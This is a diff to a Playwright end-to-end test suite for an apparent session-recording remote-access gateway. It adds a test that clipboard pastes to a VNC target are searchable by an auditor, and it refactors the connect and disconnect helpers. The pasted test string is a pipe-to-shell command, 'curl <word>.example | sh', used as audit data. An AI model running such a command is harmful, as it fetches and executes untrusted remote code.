@@ -8,7 +8,7 @@ from pathlib import Path
 from urllib.parse import parse_qs, urlsplit
 
 import pytest
-from playwright.sync_api import Browser, Page, expect
+from playwright.sync_api import Browser, Locator, Page, expect
 
 from gateway.core.policy.access import Role
 from tests.e2e.browser import chromium, signed_in
@@ -78,13 +78,32 @@ def test_a_word_typed_in_a_remote_terminal_is_found_where_it_was_typed(
     check_archive(gate, s3, bucket, row["id"])
 
 
+def test_what_was_pasted_in_the_browser_is_found_as_pasted(gate: Gate, browser: Browser, tmp_path: Path) -> None:
+    word = "".join(secrets.choice(ALPHABET) for _ in range(9))
+    with VncDesktop(tmp_path / "desktop") as desktop:
+        gate.add_target(f"Paste {word}", desktop.target)
+        page = signed_in(browser, gate, "operator")
+        open_target(page, f"Paste {word}")
+        page.get_by_role("button", name="Clipboard").click()
+        page.get_by_label("To the target").fill(f"curl {word}.example | sh")
+        page.get_by_role("button", name="Send to target").click()
+        page.keyboard.press("Escape")
+        disconnect(page)
+    gate.finished(f"Paste {word}")
+
+    page = signed_in(browser, gate, "auditor")
+    open_hit(page, f"clipboard:{word}", word)
+    for tab in ("Hits (1)", "Transcript"):
+        page.get_by_role("tab", name=tab).click()
+        pasted = page.get_by_role("button", name=word)
+        expect(pasted).to_contain_text("Pasted to the target", timeout=15_000)
+        expect(pasted).to_contain_text("text/plain, 27 B")
+
+
 def type_in_terminal(browser: Browser, gate: Gate, target: str, line: str, folder: Path) -> datetime:
     """Open the target in the browser, type a line, disconnect; returns when the last key was pressed."""
     page = signed_in(browser, gate, "operator")
-    page.get_by_role("link", name=f"Open {target}").or_(page.get_by_role("button", name=f"Open {target}")).click()
-    display = page.get_by_test_id("display")
-    expect(display).to_be_visible(timeout=30_000)
-    expect(page.get_by_test_id("connection-state")).to_have_attribute("data-state", "connected", timeout=30_000)
+    display = open_target(page, target)
     page.wait_for_timeout(1500)
     display.click(position={"x": 300, "y": 200})
     page.keyboard.type(line, delay=40)
@@ -92,17 +111,32 @@ def type_in_terminal(browser: Browser, gate: Gate, target: str, line: str, folde
     typed_at = datetime.now(UTC)
     page.wait_for_timeout(2500)
     page.screenshot(path=folder / "desktop.png")
-    page.get_by_role("button", name="Disconnect").click()
-    expect(page.get_by_text("Session ended")).to_be_visible(timeout=15_000)
-    page.context.close()
+    disconnect(page)
     return typed_at
 
 
-def open_hit(page: Page, word: str) -> float:
-    """Search for the word, open the hit, wait for the picture; returns where the video stands, in ms."""
+def open_target(page: Page, target: str) -> Locator:
+    """Open the target's desktop; returns its display once it is connected."""
+    page.get_by_role("link", name=f"Open {target}").or_(page.get_by_role("button", name=f"Open {target}")).click()
+    display = page.get_by_test_id("display")
+    expect(display).to_be_visible(timeout=30_000)
+    expect(page.get_by_test_id("connection-state")).to_have_attribute("data-state", "connected", timeout=30_000)
+    return display
+
+
+def disconnect(page: Page) -> None:
+    """End the session from the browser's side."""
+    page.get_by_role("button", name="Disconnect").click()
+    expect(page.get_by_text("Session ended")).to_be_visible(timeout=15_000)
+    page.context.close()
+
+
+def open_hit(page: Page, query: str, word: str | None = None) -> float:
+    """Search, open the hit with the word, wait for the picture; returns where the video stands, in ms."""
+    word = word or query
     page.goto("/search")
     box = page.get_by_label("Search recordings")
-    box.fill(word)
+    box.fill(query)
     box.press("Enter")
     hit = page.get_by_role("listitem").filter(has_text=word).first
     expect(hit).to_be_visible(timeout=15_000)
